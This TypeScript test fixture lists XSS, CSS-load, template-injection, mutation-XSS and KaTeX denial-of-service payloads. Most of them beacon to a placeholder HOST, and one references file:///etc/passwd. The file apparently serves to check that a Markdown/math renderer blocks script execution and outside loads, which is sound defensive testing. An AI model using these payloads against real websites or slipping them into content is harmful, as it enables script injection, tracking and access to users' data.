/** Text that tries to run something or to load something from outside, one entry a way in. `HOST` stands for a server that counts, `FILE` for the address of a local file. */
export const ATTACKS: readonly string[] = [
  '<script>fetch("http://HOST/1")</script>',
  '<img src=x onerror="fetch(\'http://HOST/2\')">',
  '<svg onload="fetch(\'http://HOST/3\')"><script>fetch("http://HOST/3b")</script></svg>',
  '![beacon](http://HOST/4.png)',
  '![local](file:///etc/passwd)',
  '[click](javascript:fetch("http://HOST/5"))',
  '[click](http://HOST/6)',
  '<http://HOST/7>',
  '<iframe src="http://HOST/8"></iframe><object data="http://HOST/8b"></object><embed src="http://HOST/8c">',
  '<link rel=stylesheet href="http://HOST/9"><style>@import "http://HOST/9b";</style>',
  '<p style="background:url(http://HOST/10)">x</p>',
  '<base href="http://HOST/"><form action="http://HOST/11"><input autofocus onfocus=alert(1)></form>',
  '<meta http-equiv="refresh" content="0;url=http://HOST/12">',
  '<video src="http://HOST/13" poster="http://HOST/13b"></video><audio src="http://HOST/13c"></audio>',
  '$\\href{javascript:fetch("http://HOST/14")}{x}$ $\\includegraphics{http://HOST/14b}$ $\\url{http://HOST/14c}$',
  '$\\htmlStyle{background:url(http://HOST/15)}{x}$ $\\htmlData{a=b}{x}$ $\\htmlClass{c}{x}$ $\\htmlId{found}{x}$',
  '$$\\def\\a{\\a\\a}\\a$$ $\\rule{9999999em}{9999999em}$',
  '</div></section></main></style></script><script>fetch("http://HOST/16")</script>',
  '"><img src=http://HOST/17>',
  '\' onmouseover=\'fetch("http://HOST/18")',
  '{{constructor.constructor("fetch(1)")()}} ${fetch(1)}',
  '\uE0000\uE001 \uE00099999\uE001 <\uE000script>',
  '```html\n<script>fetch("http://HOST/19")</script>\n```',
  '`</code><script>fetch("http://HOST/20")</script>`',
  '[a]: http://HOST/21 "t"\n\n[a] ![a]',
  '<details open ontoggle=fetch("http://HOST/22")>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=fetch(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=fetch(1)>">',
  '# Heading {#found onclick=fetch(1)}',
  '\u202Egnp.exe\u0000\u001b[31m\u0007',
  '<script>document.documentElement.dataset.ran = "script"</script>',
  '<svg><animate onbegin=document.documentElement.dataset.ran="animate" attributeName=x dur=1s></svg>',
  '<img src="data:image/png;base64,AA" onerror="document.documentElement.dataset.ran=\'handler\'">',
  '<link rel=preconnect href="http://HOST"><link rel=dns-prefetch href="http://HOST"><link rel=prefetch href="http://HOST/31"><link rel=icon href="http://HOST/31b">',
  '<picture><source srcset="http://HOST/32"><img src=x></picture><input type=image src="http://HOST/32b">',
  '<svg><image href="http://HOST/33"/><use href="http://HOST/33b#a"/><feImage href="http://HOST/33c"/></svg>',
  '<table background="http://HOST/34"><tr><td style="cursor:url(http://HOST/34b),auto;list-style:url(http://HOST/34c)">x</table>',
  '<style>@font-face{font-family:z;src:url(http://HOST/35)}p{font-family:z;content:url(http://HOST/35b)}</style>',
  '<img src="FILE.png"><iframe src="FILE.html"></iframe><object data="FILE.html"></object><link rel=stylesheet href="FILE.css">',
  '<style>@import "FILE.css";p{background:url(FILE.png)}</style>',
  '![local](FILE.png) [local](FILE.html)',
];

/** The attacks with a host's name and the address of a local file (without its ending) put in. */
export function attacksOn(host: string, file: string = 'file:///nowhere'): string[] {
  return ATTACKS.map((attack) => attack.replaceAll('HOST', host).replaceAll('FILE', file));
}

/** All of them as one Markdown document. */
export function attackText(host: string, file?: string): string {
  return attacksOn(host, file).join('\n\n');
}
